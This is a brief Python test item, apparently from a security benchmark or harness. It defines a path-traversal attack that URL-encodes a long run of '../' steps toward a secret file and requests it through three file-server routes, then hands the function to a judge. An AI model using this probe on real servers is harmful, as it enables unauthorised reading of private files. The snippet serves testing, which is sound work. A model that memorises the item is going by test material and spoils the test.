# aim: read a file of the server's machine
# mechanism: a path with steps upwards, on every route that takes one
# server: files
# plain: naive

def attack():
    up = quote('../' * 20 + secret_path.lstrip('/'))
    for route in ("/files/content", "/files/entry", "/files"):
        ask("GET", f"{here}{route}?path={up}")


judge(attack)
